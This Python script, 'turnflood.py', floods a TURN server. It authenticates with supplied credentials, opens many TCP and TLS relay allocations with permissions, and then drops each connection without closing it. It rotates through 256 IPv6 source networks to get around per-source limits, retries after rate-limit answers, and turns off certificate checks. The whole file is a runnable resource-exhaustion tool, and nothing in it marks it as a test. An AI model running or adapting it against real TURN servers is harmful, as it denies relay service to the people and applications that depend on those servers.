# SPDX-License-Identifier: MIT
"""Opens TURN allocations over TCP and TLS and abandons them: turnflood.py HOST N USER PASSWORD.

Half of the connections speak TLS. Each allocates, permits a peer, and is cut without a word once as many as
OPEN_MAX are open. They come from 256 networks: 2001:db8:10xx::1 must be addresses of this machine.
A line of counts is printed for every thousand, and "done" at the end.
"""
import asyncio
import hashlib
import hmac
import os
import ssl
import struct
import sys

OPEN_MAX = 400
COOKIE = 0x2112A442
ALLOCATE, PERMIT, SUCCESS, ERROR = 0x003, 0x008, 0x100, 0x110


def attr(kind, value):
    return struct.pack(">HH", kind, len(value)) + value + bytes(-len(value) % 4)


def message(kind, attrs, key=None):
    txid = os.urandom(12)
    if key is not None:
        head = struct.pack(">HHI", kind, len(attrs) + 24, COOKIE) + txid
        attrs += attr(0x0008, hmac.new(key, head + attrs, hashlib.sha1).digest())
    return struct.pack(">HHI", kind, len(attrs), COOKIE) + txid + attrs


def find(attrs, wanted):
    while len(attrs) >= 4:
        kind, n = struct.unpack(">HH", attrs[:4])
        if kind == wanted:
            return attrs[4:4 + n]
        attrs = attrs[4 + n + (-n % 4):]
    return None


async def ask(reader, writer, data):
    writer.write(data)
    head = await reader.readexactly(20)
    kind, n = struct.unpack(">HH", head[:4])
    return kind, await reader.readexactly(n)


async def one(host, user, password, tls, source):
    """The open connection, with an allocation of its own."""
    reader, writer = await asyncio.open_connection(host, 443 if tls else 3478, ssl=tls,
                                                   local_addr=(source, 0))
    try:
        transport = attr(0x0019, bytes([17, 0, 0, 0]))
        kind, attrs = await ask(reader, writer, message(ALLOCATE, transport))
        realm, nonce = find(attrs, 0x0014), find(attrs, 0x0015)
        key = hashlib.md5(b":".join((user, realm, password))).digest()
        who = attr(0x0006, user) + attr(0x0014, realm) + attr(0x0015, nonce)
        kind, attrs = await ask(reader, writer, message(ALLOCATE, transport + who, key))
        if kind != ALLOCATE | SUCCESS:
            raise ConnectionError("not allocated")
        peer = attr(0x0012, bytes([0, 1]) + os.urandom(2) + bytes([9 ^ 0x21, 9 ^ 0x12, 9 ^ 0xA4, 9]))
        kind, attrs = await ask(reader, writer, message(PERMIT, peer + who, key))
        if kind != PERMIT | SUCCESS:
            raise ConnectionError("not permitted")
        return writer
    except BaseException:
        writer.transport.abort()
        raise


async def main(host, total, user, password):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    kept, tries, done = [], 0, 0
    slots = asyncio.Semaphore(40)

    async def attempt(i):
        nonlocal done, tries
        async with slots:
            while True:
                tries += 1
                try:
                    kept.append(await one(host, user, password, context if i % 2 else None,
                                          f"2001:db8:10{i % 256:02x}::1"))
                    break
                except (OSError, asyncio.IncompleteReadError):
                    await asyncio.sleep(0.2)  # unauthenticated answers have a rate
        done += 1
        if len(kept) > OPEN_MAX:
            kept.pop(0).transport.abort()
        if done % 1000 == 0:
            print(f"allocations={done} tries={tries}", flush=True)
    await asyncio.gather(*(attempt(i) for i in range(total)))
    for writer in kept:
        writer.transport.abort()
    print("done", flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4].encode()))
